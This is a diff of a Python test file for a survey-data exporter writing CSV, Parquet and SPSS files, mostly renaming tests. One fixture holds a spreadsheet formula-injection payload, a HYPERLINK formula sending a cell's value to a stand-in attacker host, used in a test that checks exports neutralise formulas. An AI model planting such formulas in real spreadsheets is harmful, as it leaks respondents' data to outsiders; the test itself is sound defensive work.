@@ -30,7 +30,7 @@ from tests.runs import sealed
 
 THEFT = {"name": "theft", "choices": ["no", "yes"], "text": "Have you stolen?"}
 MUCH = {"name": "how, much?", "choices": ["a little", "a, lot"], "show_if": {"age": ["40+"]}}
-ASKS = asked.written(
+ASKS = asked.make_design(
     {"kind": "plain", "questions": [{"name": "age", "choices": ["18-39", "40+"]}]},
     {"kind": "unrelated-question", "keep": "0.5", "asked": 1, "questions": [THEFT, MUCH]},
     title="Theft",
@@ -49,7 +49,7 @@ Case = tuple[Design, list[list[RecordRow]]]
 
 
 def of_choices(*questions: dict[str, Any]) -> Design:
-    return asked.written({"kind": "plain", "questions": list(questions)})
+    return asked.make_design({"kind": "plain", "questions": list(questions)})
 
 
 def csv_of(records: UsedRows) -> str:
@@ -82,7 +82,7 @@ def sealed_rows(draw: st.DrawFn) -> Case:
     ]
 
 
-def test_a_csv_file_holds_names_nothing_a_dash_and_question_marks() -> None:
+def test_csv_holds_names_empty_cells_dashes_and_question_marks() -> None:
     found = asked.used_rows(ASKS, ROWS)
     header, *lines = csv_of(found).splitlines()
     assert (header, sorted(lines)) == (LINES[0], sorted(LINES[1:]))
@@ -97,7 +97,7 @@ FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
 TEMPTING = of_choices({"name": "+1+2", "choices": [FORMULA, "'" + FORMULA, "-5", "@SUM(A1)"]})
 
 
-def test_no_name_goes_out_as_a_formula_and_every_one_comes_back() -> None:
+def test_no_name_is_exported_as_a_formula_and_each_is_read_back() -> None:
     """Also those written by hand as they are."""
     rows = [RecordRow(1, (code,)) for code in range(4)]
     text = csv_of(asked.used_rows(TEMPTING, rows))
@@ -115,7 +115,7 @@ def test_no_name_goes_out_as_a_formula_and_every_one_comes_back() -> None:
 
 @pytest.mark.page
 @given(case=sealed_rows())
-def test_every_sealed_record_stands_in_the_file_once(case: Case) -> None:
+def test_every_sealed_record_is_in_the_file_once(case: Case) -> None:
     """The cells of a Parquet file are those of the CSV file."""
     design, parts = case
     records = asked.used_rows(design, *parts)
@@ -129,7 +129,7 @@ def test_every_sealed_record_stands_in_the_file_once(case: Case) -> None:
     assert [list(line) for line in zip(*whole, strict=True)] == lines
 
 
-def test_rows_are_permuted_over_all_batches() -> None:
+def test_rows_are_shuffled_over_all_batches() -> None:
     first, second = [RecordRow(1, (0, 1, 2))] * 300, [RecordRow(1, (0, 0, 2))] * 300
     cells = [line.split(",")[2] for line in csv_of(asked.used_rows(ASKS, first, second)).splitlines()[1:]]
     # Half of the first half is of each batch: 150, give or take five times 6.1.
@@ -143,7 +143,7 @@ def test_rows_are_permuted_over_all_batches() -> None:
 
 
 @pytest.mark.django_db
-def test_only_sealed_records_leave() -> None:
+def test_only_sealed_records_are_exported() -> None:
     survey = asked.survey(ASKS)
     asked.seal_batches(survey, ASKS, ROWS * 5, ROWS * 6)
     Inbox.objects.create(survey=survey, record=b"1012")
@@ -156,7 +156,7 @@ def test_only_sealed_records_leave() -> None:
 
 
 @pytest.mark.django_db
-def test_what_was_sent_comes_out_of_the_file_and_two_files_have_two_orders() -> None:
+def test_file_holds_what_was_sent_and_each_file_has_its_own_order() -> None:
     design = asked.design(least=20)
     survey = asked.survey(design)
     for number in range(40):
@@ -171,7 +171,7 @@ def test_what_was_sent_comes_out_of_the_file_and_two_files_have_two_orders() -> 
 # --- other formats hold the same
 
 
-def test_a_parquet_column_is_of_categories_and_says_what_they_mean() -> None:
+def test_parquet_column_is_categorical_with_labels() -> None:
     table = table_of(asked.used_rows(ASKS, ROWS))
     theft = table.schema.field("theft")
     assert theft.metadata[b"candor:text"] == b"Have you stolen?"
@@ -189,7 +189,7 @@ def test_a_parquet_column_is_of_categories_and_says_what_they_mean() -> None:
     assert (column > "never").sum() == 2
 
 
-def test_an_spss_file_holds_codes_and_labelled_missing_values(tmp_path: Path) -> None:
+def test_spss_file_holds_codes_and_labelled_missing_values(tmp_path: Path) -> None:
     records = asked.used_rows(ASKS, ROWS)
     data, about = spss(records, tmp_path, user_missing=True)
     assert about.column_names == ["group", "age", "theft", "how_much"]
@@ -208,7 +208,9 @@ def test_an_spss_file_holds_codes_and_labelled_missing_values(tmp_path: Path) ->
 @pytest.mark.page
 @settings(max_examples=15)
 @given(case=sealed_rows())
-def test_an_spss_file_holds_the_same_records(tmp_path_factory: pytest.TempPathFactory, case: Case) -> None:
+def test_spss_file_holds_the_same_records_as_csv(
+    tmp_path_factory: pytest.TempPathFactory, case: Case
+) -> None:
     design, parts = case
     found = asked.used_rows(design, *parts)
     data, about = spss(found, tmp_path_factory.getbasetemp(), user_missing=True)
@@ -234,7 +236,7 @@ def test_an_spss_file_holds_the_same_records(tmp_path_factory: pytest.TempPathFa
 
 def many(records: int) -> UsedRows:
     questions = [{"name": f"q{place}", "choices": ["no", "yes"]} for place in range(200)]
-    design = asked.written({"kind": "unrelated-question", "keep": "0.5", "questions": questions})
+    design = asked.make_design({"kind": "unrelated-question", "keep": "0.5", "questions": questions})
     rng = np.random.default_rng(1)
     codes = rng.integers(0, 2, (200, records), np.uint8)
     packed = batch_bit_columns.pack_batch(design, np.ones(records, np.uint8), codes)
@@ -259,7 +261,7 @@ def write_parquet(records: UsedRows) -> Iterator[bytes]:
 
 @pytest.mark.page
 @pytest.mark.parametrize("write", [as_csv.write_csv, pytest.param(write_parquet, marks=pytest.mark.night)])
-def test_beside_their_packed_columns_ten_times_the_records_take_no_more_memory(
+def test_exporting_ten_times_the_records_takes_no_more_memory(
     write: Callable[[UsedRows], Iterator[bytes]], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(as_parquet, "CELLS", 200_000)
